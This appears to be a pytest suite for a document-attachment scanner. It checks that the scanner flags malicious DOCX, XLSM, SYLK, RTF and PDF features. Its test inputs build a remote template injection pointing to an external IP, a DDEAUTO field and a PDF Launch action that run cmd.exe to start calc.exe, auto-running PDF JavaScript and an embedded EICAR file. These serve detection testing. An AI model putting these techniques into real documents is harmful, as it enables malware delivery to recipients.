from __future__ import annotations

import io

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tap_core.attachments.engine import AttachmentEngine
from tap_core.attachments.model import FileResult
from tap_core.model.findings import Verdict
from tests.attachments.builders import EICAR, FIXTURES, WORD_XML, make_ooxml


def _names(result: FileResult) -> set[str]:
    return {f.name for f in result.all_findings()}


def _pdf(
    javascript: str | None = None,
    launch: str | None = None,
    attach: tuple[str, bytes] | None = None,
    password: str | None = None,
) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if javascript is not None:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(javascript),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if launch is not None:
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject(launch)}
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if attach is not None:
        writer.add_attachment(*attach)
    if password is not None:
        writer.encrypt(user_password=password, owner_password="owner-" + password, algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_clean_docx(engine: AttachmentEngine) -> None:
    result = engine.scan("letter.docx", make_ooxml(WORD_XML.format(body="Hello", fields="")))
    assert result.type == "docx"
    assert result.verdict is Verdict.CLEAN
    assert result.findings == []


def test_remote_template_injection(engine: AttachmentEngine) -> None:
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://203.0.113.9/tpl.dotm" TargetMode="External"/></Relationships>'
    )
    result = engine.scan("cv.docx", make_ooxml(WORD_XML.format(body="CV", fields=""), rels=rels))
    assert "external_template" in result.reasons
    assert [(u.url, u.context) for u in result.urls] == [("http://203.0.113.9/tpl.dotm", "ooxml_relationship")]
    assert result.verdict is Verdict.SUSPICIOUS


def test_dde_field_in_docx(engine: AttachmentEngine) -> None:
    fields = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO '
        'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    result = engine.scan("dde.docx", make_ooxml(WORD_XML.format(body="x", fields=fields)))
    assert "dde_link" in result.reasons


def test_docm_with_vba(engine: AttachmentEngine) -> None:
    result = engine.scan("form.docm", (FIXTURES / "oleform-PR314.docm").read_bytes())
    assert {"vba_macros", "vba_autoexec"} <= set(result.reasons)
    assert result.verdict is not Verdict.CLEAN


def test_excel_default_password_is_decrypted_and_macros_seen(engine: AttachmentEngine) -> None:
    result = engine.scan("report.xlsm", (FIXTURES / "autostart-encrypt-standardpassword.xlsm").read_bytes())
    assert "office_default_password" in result.reasons
    decrypted = result.children[0]
    assert decrypted.decrypted and decrypted.type == "xlsm"
    assert "vba_autoexec" in decrypted.reasons


def test_excel4_macros_in_sylk(engine: AttachmentEngine) -> None:
    result = engine.scan("prices.slk", (FIXTURES / "excel4_sample_macro.slk").read_bytes())
    assert "xlm_macros" in result.reasons


def test_rtf_object_extracted(engine: AttachmentEngine) -> None:
    result = engine.scan("doc.rtf", (FIXTURES / "issue_251.rtf").read_bytes())
    assert "rtf_object" in result.reasons
    assert result.children


def test_pdf_openaction_javascript(engine: AttachmentEngine) -> None:
    result = engine.scan("statement.pdf", _pdf(javascript="app.alert('hi'); this.exportDataObject({});"))
    assert {"pdf_javascript", "pdf_auto_action"} <= set(result.reasons)
    assert result.verdict is Verdict.SUSPICIOUS


def test_pdf_launch_of_cmd(engine: AttachmentEngine) -> None:
    result = engine.scan("launch.pdf", _pdf(launch="cmd.exe /c calc.exe"))
    assert "pdf_launch" in result.reasons
    assert result.verdict is Verdict.MALICIOUS


def test_pdf_embedded_file_is_scanned(engine: AttachmentEngine) -> None:
    result = engine.scan("carrier.pdf", _pdf(attach=("eicar.com", EICAR)))
    assert "pdf_embedded_file" in result.reasons
    assert result.children[0].name == "eicar.com"
    assert result.verdict is Verdict.MALICIOUS


def test_encrypted_pdf_opened_with_candidate_password(engine: AttachmentEngine) -> None:
    data = _pdf(javascript="app.alert(1)", password="Q7x-44")
    assert "encrypted_document" in engine.scan("locked.pdf", data).reasons
    opened = engine.scan("locked.pdf", data, passwords=["Q7x-44"])
    assert {"decrypted_with_password", "pdf_javascript"} <= set(opened.reasons)
